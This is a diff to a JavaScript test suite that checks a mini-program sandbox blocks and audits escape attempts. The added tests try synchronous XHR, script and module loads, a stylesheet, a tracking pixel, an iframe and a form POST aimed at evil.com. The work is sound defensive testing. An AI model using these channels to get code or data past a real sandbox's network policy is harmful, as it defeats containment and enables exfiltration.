@@ -167,14 +167,36 @@ describe('escape attempts from a sandboxed mini-program', () => {
       await attempt('websocket', () => new Promise((resolve, reject) => { const ws = new WebSocket('wss://evil.com/x'); ws.onopen = () => resolve('open'); ws.onerror = () => reject(Object.assign(new Error(), { code: 'WS_ERROR' })); }));
       // sendBeacon only queues (it answers true); the request itself must be refused by the host.
       navigator.sendBeacon('https://evil.com/beacon', 'x');
+      // Synchronous loads never reach the host (there is no synchronous channel): refused in the guest, still audited.
+      await attempt('syncXhr', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://evil.com/sync', false); x.send(); if (x.status !== 200) throw fail('BLOCKED_' + x.status); return x.status; });
+      await attempt('classicScript', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.src = 'https://evil.com/classic.js'; s.onload = () => resolve('loaded'); s.onerror = () => reject(fail('SCRIPT_ERROR')); document.head.appendChild(s); }));
+      await attempt('moduleScript', () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.type = 'module'; s.src = 'https://evil.com/module.js'; s.onload = () => resolve('loaded'); s.onerror = () => reject(fail('SCRIPT_ERROR')); document.head.appendChild(s); }));
+      await attempt('stylesheet', () => new Promise((resolve, reject) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.com/style.css'; l.onload = () => resolve('loaded'); l.onerror = () => reject(fail('CSS_ERROR')); document.head.appendChild(l); }));
+      // A tracking pixel that is never attached to the page is still a request in a WebView.
+      await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => reject(fail('IMG_ERROR')); i.src = 'https://evil.com/pixel.gif?d=1'; }));
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.com/frame.html';
+      document.body.appendChild(frame);
       await new Promise((r) => setTimeout(r, 50));
+      // Last: a form navigates the page away.
+      setTimeout(() => { const f = document.createElement('form'); f.action = 'https://evil.com/form'; f.method = 'post'; document.body.appendChild(f); f.submit(); }, 0);
     `);
     const r = await doneOf(app);
     for (const [name, outcome] of Object.entries(r)) expect([name, outcome]).toEqual([name, expect.not.stringMatching(/^ESCAPED/)]);
     await new Promise((r) => setTimeout(r, 100));
     // A URL with userinfo never leaves the guest: its own fetch refuses to build the request.
-    const blocked = h.audit.events.filter((e) => e.type === 'network.blocked' && e.app === 'com.partner.netbypass').map((e) => e.url);
+    const events = h.audit.events.filter((e) => e.type === 'network.blocked' && e.app === 'com.partner.netbypass');
+    const blocked = events.map((e) => e.url);
     expect(blocked).toEqual(expect.arrayContaining(['https://evil.com/x', 'http://api.partner.com/x', 'https://api.partner.com.evil.com/x', 'https://127.0.0.1/x', 'https://api.partner.com./x', 'https://api.partner.com:8443/x', 'https://api.xn--prtner-3nf.com/x', 'wss://evil.com/x', 'https://evil.com/beacon']));
+    expect(blocked).toEqual(expect.arrayContaining(['https://evil.com/sync', 'https://evil.com/classic.js', 'https://evil.com/module.js', 'https://evil.com/style.css', 'https://evil.com/pixel.gif?d=1', 'https://evil.com/frame.html', 'https://evil.com/form']));
+    for (const e of events) expect(e).toMatchObject({ code: 'DOMAIN_NOT_ALLOWED', reason: expect.any(String), method: expect.any(String) });
+    expect(events.find((e) => e.url === 'https://evil.com/sync')).toMatchObject({ api: 'xhr', method: 'GET' });
+    expect(events.find((e) => e.url === 'https://evil.com/classic.js')).toMatchObject({ api: 'script' });
+    expect(events.find((e) => e.url === 'https://evil.com/form')).toMatchObject({ method: 'POST' });
+    // Each refusal once (fetch and XHR both tried https://evil.com/x), and no misleading "missing resource" for what the policy refused.
+    expect(blocked.filter((u) => u === 'https://evil.com/x')).toHaveLength(2);
+    expect(blocked.filter((u) => u !== 'https://evil.com/x')).toEqual([...new Set(blocked.filter((u) => u !== 'https://evil.com/x'))]);
+    expect(app.host.snapshot().errors.filter((e) => e.kind === 'resource')).toEqual([]);
     expect(h.audit.events.some((e) => e.type === 'network.allowed' && e.app === 'com.partner.netbypass')).toBe(false);
   });
 });
